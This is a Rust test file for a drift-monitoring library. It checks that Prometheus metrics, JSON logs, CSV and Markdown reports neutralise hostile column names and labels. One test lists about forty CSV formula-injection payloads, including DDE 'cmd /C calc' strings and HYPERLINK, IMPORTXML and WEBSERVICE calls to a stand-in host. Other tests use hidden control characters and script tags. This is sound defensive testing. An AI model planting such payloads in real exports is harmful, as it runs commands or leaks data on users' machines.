//! Prometheus text and the structured log, with hostile names.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common::exposition;
#[cfg(not(target_arch = "wasm32"))]
use crate::common::promtool;

use driftglass::drift::Verdict;
use driftglass::monitor::{LatencyGiven, Monitor, MonitorConfig, ObserveOptions};
use driftglass::report::{Report, csv, csv_raw, markdown};
use driftglass::table::{Column, Table};
use driftglass::telemetry::{LogLevel, json_lines, log_records, prometheus};
use exposition::{HOSTILE, parse};
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// Columns with hostile names; the second half of the rows can be shifted.
fn table(shift: f64) -> Table {
    let columns = HOSTILE.iter().enumerate().map(|(at, name)| {
        let values = (0..200).map(|row| f64::from(row) / 7.0 + at as f64 + shift).collect();
        Column::from_numbers(*name, values)
    });
    let labels = |name: &str| {
        Column::from_texts(
            name,
            (0..200).map(|row| Some([HOSTILE[0], HOSTILE[4], "plain"][row % 3])),
        )
    };
    Table::new(columns.chain([labels("target"), labels("said")]).collect()).unwrap()
}

fn monitor() -> Monitor {
    let config = json!({
        "roles": { "target": "target", "prediction": "said" },
        "rules": [
            { "name": "drift \"now\"", "metric": "driftAlertPValue", "when": "below", "threshold": 0.05, "severity": "critical" },
            { "name": "perfect", "metric": "accuracy", "when": "above", "threshold": 0.99, "severity": "medium" },
        ],
    });
    let config = MonitorConfig::from_json(&config.to_string()).unwrap();
    let mut monitor = Monitor::new(&table(0.0), config).unwrap();
    let options = ObserveOptions {
        label: Some(HOSTILE[0].to_owned()),
        at: 1_546_300_799_000.0,
        latency_ms: Some(LatencyGiven::Calls(vec![0.5, 12.0, 99.0, 20_000.0])),
    };
    monitor.observe(&table(9.0), &options).unwrap();
    monitor
}

/// What the samples come to when nothing was injected.
fn expected_samples(monitor: &Monitor) -> usize {
    let last = monitor.history().back().unwrap();
    let drift = last.drift.as_ref().unwrap();
    let performance = ["accuracy", "precisionWeighted", "recallWeighted", "f1Weighted"].len();
    let quality: usize =
        last.quality.columns.iter().map(|c| 1 + usize::from(c.outlier_pct.is_some())).sum();
    let watched = 1 + drift.columns.iter().filter(|c| c.adjusted_p_value.is_some()).count();
    let totals = 2 + 14 + 2 + 1;
    let own = [&last.predictions, &last.targets].into_iter().flatten();
    let classes: usize = own.map(|found| found.distribution.len() + 1).sum();
    totals
        + 1
        + performance
        + classes
        + 2
        + 3 * drift.columns.len()
        + quality
        + 1
        + watched
        + monitor.alerts().len()
        + ["added", "removed", "kind-changed"].len()
        + ["pending", "firing", "resolved", "no-data", "not-enough-data"].len()
}

portable_tests! {
    fn both_formats_hold_the_same_samples_and_nothing_is_injected() {
        let monitor = monitor();
        let (classic, open) = (prometheus(&monitor, false), prometheus(&monitor, true));
        let (classic_samples, open_samples) = (parse(&classic), parse(&open));
        assert_eq!(classic_samples.len(), expected_samples(&monitor));
        assert_eq!(classic_samples.len(), open_samples.len());
        assert!(open.ends_with("# EOF\n") && !classic.contains("\n# EOF\n"));
        assert!(!classic_samples.iter().any(|(name, _, _)| name.starts_with("injected")));
        let columns: BTreeSet<&str> = classic_samples.iter()
            .filter(|(name, _, _)| name == "driftglass_column_drifted")
            .map(|(_, labels, _)| labels["column"].as_str())
            .collect();
        assert_eq!(columns, HOSTILE.into_iter().collect(), "every byte of every name comes back");
    }

    fn the_three_metrics_of_the_textbook_are_there() {
        let monitor = monitor();
        let text = prometheus(&monitor, false);
        assert!(text.contains("# TYPE predictions_total counter\npredictions_total 200\n"));
        assert!(text.contains("# TYPE model_accuracy gauge\nmodel_accuracy 1\n"));
        assert!(text.contains("prediction_latency_seconds_bucket{le=\"0.001\"} 1\n"));
        assert!(text.contains("prediction_latency_seconds_bucket{le=\"+Inf\"} 4\n"));
        assert!(text.contains("prediction_latency_seconds_count 4\n"));
        let open = prometheus(&monitor, true);
        assert!(open.contains("# TYPE predictions counter\npredictions_total 200\n"));
        assert!(open.contains("prediction_latency_seconds_bucket{le=\"1.0\"} 3\n"));
    }

    fn counters_grow_over_batches() {
        let mut monitor = monitor();
        let given = ObserveOptions { at: 1.6e12, latency_ms: Some(LatencyGiven::Each(3.0)), label: None };
        monitor.observe(&table(0.0), &given).unwrap();
        let text = prometheus(&monitor, false);
        assert!(text.contains("\npredictions_total 400\n"));
        assert!(text.contains("\ndriftglass_batches_total 2\n"));
        assert!(text.contains("prediction_latency_seconds_count 204\n"));
        assert!(text.contains("prediction_latency_seconds_bucket{le=\"0.005\"} 201\n"));
    }

    fn what_is_unknown_is_left_out() {
        let monitor = Monitor::new(&table(0.0), MonitorConfig::default()).unwrap();
        let text = prometheus(&monitor, false);
        assert!(!text.contains("model_accuracy") && !text.contains("NaN"));
        assert_eq!(parse(&text).len(), 2 + 5, "{text}");
    }

    fn the_log_has_one_line_an_event_and_the_levels_of_the_contract() {
        let monitor = monitor();
        let records = log_records(&monitor);
        let lines = json_lines(&records);
        assert_eq!(lines.lines().count(), records.len());
        for line in lines.lines() {
            let record: Value = serde_json::from_str(line).unwrap();
            assert!(record["at"].is_number() && record["message"].is_string());
            assert!(!line.chars().any(|c| c.is_control() || c == '\u{2028}'), "{line}");
            assert!(!line.contains("\\u001b") && !line.contains("\\n"), "{line}");
        }
        let firing: Vec<_> = records.iter().filter(|r| r.event == "alert-firing").collect();
        assert_eq!(firing.len(), 10);
        let levels = |rule: &str| firing.iter().find(|r| r.fields["rule"].as_str().unwrap().starts_with(rule)).unwrap().level;
        assert_eq!(levels("drift"), LogLevel::Error);
        assert_eq!(levels("perfect"), LogLevel::Warning);
        assert_eq!(records[0].event, "batch-observed");
        assert_eq!(records[0].level, LogLevel::Info);
        assert_eq!(records[0].time, "2018-12-31T23:59:59.000Z");
    }

    fn the_csv_is_inert_in_spreadsheets_and_exact_on_request() {
        let report = Report::of(&monitor());
        let inert = cells(&csv(&report));
        let exact = cells(&csv_raw(&report));
        assert_eq!(inert.len(), exact.len());
        let measurements: usize = report.reference.measurements.len() + report.batches[0].measurements.len();
        assert_eq!(exact.len(), measurements + 1);
        let names: BTreeSet<&str> = exact.iter().skip(1).map(|row| row[4].as_str()).filter(|c| !c.is_empty()).collect();
        assert!(HOSTILE.iter().all(|name| names.contains(name)), "{names:?}");
        for (inert, exact) in inert.iter().zip(&exact).skip(1) {
            assert_eq!(inert.len(), 11);
            for (at, (inert, exact)) in inert.iter().zip(exact).enumerate() {
                if matches!(at, 1 | 6..=9) {
                    assert_eq!(inert, exact, "numbers are never changed");
                } else {
                    assert!(!inert.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{inert}");
                }
            }
        }
    }

    fn the_csv_has_the_shortest_text_that_reads_back_as_the_number() {
        let mut report = Report::of(&monitor());
        let measured = |value: f64| {
            let mut one = report.reference.measurements[0].clone();
            (one.value, one.interval) = (Some(value), Some([-value, value]));
            one
        };
        let values = [1e-300, -2.5e-7, 0.1 + 0.2, 1e-4, 0.0, -0.0, 12.0, 999_999_999_999_999.0, 1e15, 123_456_789_012_345_678.0, f64::MAX, 5e-324];
        report.reference.measurements = values.map(measured).into();
        let rows = cells(&csv(&report));
        let texts: Vec<&str> = rows.iter().skip(1).map(|row| row[6].as_str()).take(values.len()).collect();
        for (row, value) in rows.iter().skip(1).zip(values) {
            let read = |cell: usize| row[cell].parse::<f64>().unwrap().to_bits();
            assert_eq!([read(6), read(7)], [value.to_bits(), (-value).to_bits()], "{row:?}");
        }
        assert_eq!(texts, ["1e-300", "-2.5e-7", "0.30000000000000004", "0.0001", "0", "-0", "12", "999999999999999", "1e15", "123456789012345680", "1.7976931348623157e308", "5e-324"]);
    }

    fn formulas_in_every_disguise_are_inert() {
        let payloads = [
            "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "   +1", "\u{a0}=1",
            "\u{feff}=1", "\u{ff1d}1", "\u{ff0b}1", "\u{ff0d}1", "\u{ff20}x", "-2+3+cmd|' /C calc'!D2",
            "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
            "=IMPORTXML(\"http://x\",\"//a\")", "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C\";\"x\")",
            "+cmd|'/C calc'!A0", "=\"a\"&\"b\"", "=1,2", "=1;2", "=A1:B2", "=\u{202e}1", "-", "+", "=", "@",
            "\t", "\u{3000}=1", "\u{2003}@x", "\u{2028}=1", "\u{200b}=1", "\u{200e}-1", "\u{2060}+1",
            " \u{ff1d}1", "\u{feff} =1", "\u{b}=1", "\u{c}@1",
        ];
        assert!(payloads.len() >= 40);
        for payload in payloads {
            let named = Table::new(vec![Column::from_numbers(payload, vec![1.5, 2.5])]).unwrap();
            let monitor = Monitor::new(&named, MonitorConfig::default()).unwrap();
            let report = Report::of(&monitor);
            let text = csv(&report);
            let named = |rows: &[Vec<String>]| rows.iter().filter(|row| !row[4].is_empty()).map(|row| row[4].clone()).collect::<BTreeSet<_>>();
            let inert = named(&cells(&text)[1..]);
            let token = |c: char| format!("[U+{:04X}]", u32::from(c));
            let hidden = "\0\u{b}\u{c}\u{200b}\u{200e}\u{2028}\u{202e}\u{2060}\u{feff}";
            let shown = |c: char| if hidden.contains(c) { token(c) } else { c.to_string() };
            let shown: String = payload.chars().map(shown).collect();
            assert_eq!(inert, [format!("'{shown}")].into(), "{payload:?}");
            assert!(text.contains(",\"'"), "an inert cell is quoted: {payload:?}");
            let exact = named(&cells(&csv_raw(&report))[1..]);
            assert_eq!(exact, [payload.to_owned()].into(), "the raw export loses nothing");
        }
    }

    fn the_csv_shows_what_a_terminal_or_reader_would_obey() {
        let hidden = ['\0', '\u{7}', '\u{1b}', '\u{7f}', '\u{9b}', '\u{ad}', '\u{180e}', '\u{200b}', '\u{202e}', '\u{2066}', '\u{e0041}'];
        for c in hidden {
            let mut report = Report::of(&monitor());
            report.batches[0].label = format!("a{c}b");
            let inert = csv(&report);
            assert!(!inert.contains(c) && inert.contains(&format!("\r\na[U+{:04X}]b,", u32::from(c))), "{c:?}");
            assert!(csv_raw(&report).contains(&format!("a{c}b")), "the raw export loses nothing");
        }
        let mut report = Report::of(&monitor());
        report.batches[0].label = "a\tb\nc \u{e9}\u{4e00}".to_owned();
        assert!(csv(&report).contains("\"a\tb\nc \u{e9}\u{4e00}\""), "what is seen stays");
    }

    fn markdown_gives_no_p_value_as_0_and_counts_rows() {
        let mut report = Report::of(&monitor());
        let drift = report.batches[0].drift.as_mut().unwrap();
        drift.columns.truncate(3);
        for (column, p) in drift.columns.iter_mut().zip([0.0, 1.234_5e-4, 0.012_345]) {
            column.verdict = Verdict::Drifted;
            column.adjusted_p_value = Some(p);
        }
        let text = markdown(&report);
        for p in [" | below 0.0001 | ", " | 0.000123 | ", " | 0.0123 | "] {
            assert!(text.contains(p), "{p} is not in {text}");
        }
        report.dashboard.total_predictions = 1000;
        report.dashboard.batches = 1;
        assert!(markdown(&report).contains(", 1,000 rows in 1 batch. Aggregates"));
        report.dashboard.total_predictions = 1;
        report.dashboard.batches = 2;
        assert!(markdown(&report).contains(", 1 row in 2 batches. Aggregates"));
    }

    fn markdown_has_nothing_that_github_makes_a_link_of() {
        let long = "0123456789abcdef0123456789abcdef01234567";
        let of_label = |label: &str| {
            let mut report = Report::of(&monitor());
            report.batches[0].label = label.to_owned();
            let text = markdown(&report);
            let row = text.lines().find(|line| line.contains("2018-12-31T") && line.starts_with("| ")).unwrap();
            row.split(" | ").next().unwrap().trim_start_matches("| ").to_owned()
        };
        let part = "<!-- -->";
        for (label, shown) in [
            ("GH-12, gh-3", format!("GH-{part}12, gh-{part}3")),
            ("#12", format!("\\#{part}12")),
            ("user/repo#12", format!("user/repo\\#{part}12")),
            ("user/repo@a1b2c3d", format!("user/repo@{part}a{part}1b2c3d")),
            ("a1b2c3d", format!("a{part}1b2c3d")),
            ("run_A1B2C3D.", format!("run\\_A{part}1B2C3D.")),
            (long, format!("0{part}{}", &long[1..])),
            ("2025-01-01 a1b2c3d", format!("2025-01-01 a{part}1b2c3d")),
        ] {
            assert_eq!(of_label(label), shown, "{label}");
        }
        for plain in ["20250101", "a1b2c3", "a1b2c3g4", "high-12", "GH-x", "GH", &format!("{long}8"), "xa1b2c3d"] {
            assert_eq!(of_label(plain), plain);
        }
    }

    fn markdown_gives_values_and_their_intervals_the_same_digits() {
        let mut report = Report::of(&monitor());
        let accuracy = report.batches[0].measurements.iter_mut().find(|m| m.metric == "accuracy").unwrap();
        (accuracy.value, accuracy.interval) = (Some(0.849), Some([0.815_34, 0.9]));
        assert!(markdown(&report).contains("| 0.8490 (0.8153 to 0.9000) |"), "{}", markdown(&report));
    }

    fn markdown_shows_names_as_they_are() {
        let text = markdown(&Report::of(&monitor()));
        assert!(!text.contains("<script>") && text.contains("&lt;script&gt;"));
        assert!(!text.contains('\u{1b}') && !text.contains("|cell|"));
        assert!(text.contains("Suggested: **"));
        let tables = text.lines().filter(|line| line.starts_with('|'));
        let widths: BTreeSet<usize> = tables.map(|line| line.replace("\\|", "").matches('|').count()).collect();
        assert_eq!(widths, [6, 7].into(), "no name adds a cell");
    }

    fn markdown_shows_characters_that_are_not_seen_by_their_number() {
        let mut report = Report::of(&monitor());
        report.batches[0].label = "a\u{202e}b\u{200b}".to_owned();
        report.reference.at = 0.0;
        let text = markdown(&report);
        assert!(text.contains("a\\[U+202E\\]b\\[U+200B\\]"), "{text}");
        assert!(!text.contains(['\u{202e}', '\u{200b}']) && !text.contains("1970"), "{text}");
    }
}

/// A small reader of RFC 4180.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    assert!(!quoted && cell.is_empty() && row.is_empty());
    rows
}

/// The text as Prometheus's own tool reads it, where it is installed.
#[cfg(not(target_arch = "wasm32"))]
#[test]
fn promtool_accepts_the_text() {
    use std::io::Write;
    use std::process::{Command, Stdio};
    if !promtool::is_installed() {
        return;
    }
    let mut child = Command::new("promtool")
        .args(["check", "metrics"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(prometheus(&monitor(), false).as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}{}", String::from_utf8_lossy(&output.stdout));
}
